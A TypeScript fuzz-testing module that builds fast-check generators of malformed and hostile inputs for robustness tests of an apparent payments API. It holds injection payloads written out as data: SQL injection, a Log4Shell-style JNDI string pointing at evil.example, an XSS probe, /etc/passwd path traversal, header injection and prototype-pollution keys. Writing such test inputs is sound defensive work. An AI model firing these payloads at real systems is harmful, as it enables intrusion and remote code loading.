import * as fc from 'fast-check';

// What no client that means well would send. Only the texts here are sent, so that none of ours is mistaken for a leak.

const MAX_DEPTH = 60;

const nested = (open: string, inner: string, close: string, depth: number): unknown =>
  JSON.parse(`${open.repeat(depth)}${inner}${close.repeat(depth)}`);

/** Texts that have broken somebody's parser, query, page or log before. */
export const oddText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\0',
    'a\0b',
    '\u202Etxt.exe',
    '\uD800',
    'x\uDFFF',
    '\uFEFF',
    'é\u0301\u0301\u0301',
    '👩‍👩‍👧‍👦'.repeat(9),
    "' or ''='",
    '"; --',
    '%s%n%x',
    '\u0024{jndi:ldap://evil.example/x}',
    '<script>alert(1)</script>',
    '../../../../etc/passwd',
    'line\r\nset-cookie: x=1',
    '\u001b[31m',
    '1e400',
    '-0',
    'NaN',
    'null',
    'true',
    'undefined',
    '__proto__',
    'constructor',
    '9'.repeat(400),
    'a'.repeat(10_000),
    `${'a'.repeat(5_000)}!`,
    '4242 4242 4242 4242',
    '2026-02-30T25:61:61Z',
    '00000000-0000-0000-0000-000000000000',
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
);

/** Values that stand where another type, a smaller number or a shorter text belongs. */
export const junk: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: oddText },
  {
    weight: 3,
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      false,
      [],
      {},
      [null],
      [[]],
      0,
      -1,
      1,
      0.5,
      1e21,
      2 ** 31,
      -(2 ** 31) - 1,
      2 ** 53 - 1,
      -(2 ** 53) + 1,
      Array.from({ length: 1_200 }, () => 'x'),
    ),
  },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 1, max: MAX_DEPTH }).map((depth) => nested('[', '', ']', depth)),
  },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 1, max: MAX_DEPTH }).map((depth) => nested('{"a":', '1', '}', depth)),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Names of fields and parameters that nobody documented. */
export const oddName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'merchant_id',
    'hotel_id',
    'status',
    'id',
    'role',
    'isAdmin',
    'a[b]',
    'a.b',
    'prototype',
    'constructor',
    '',
    ' ',
    '$where',
    '\0',
  ),
  fc.string({ unit: 'binary', maxLength: 20 }),
);

/** What stands in a path where an id belongs; encoded, so that it stays one segment. */
export const oddSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '0',
    '-1',
    'null',
    'undefined',
    'a'.repeat(64),
    'a'.repeat(65),
    'constructor',
    '__proto__',
    'pay_00000000000000000000000000',
    'pay_zzzzzzzzzzzzzzzzzzzzzzzzzz',
    'PAY_01JD0000000000000000000000',
    'pay_01jd000000000000000000000u',
    '%00',
    '%2e%2e',
    '..%2f..',
    '%252e',
    '%zz',
    '%',
    'a;x=1',
    'a%20b',
    '%c3%28',
    '%F0%9F%92%A9',
  ),
  fc.string({ maxLength: 40, minLength: 1 }).map(encodeURIComponent),
);
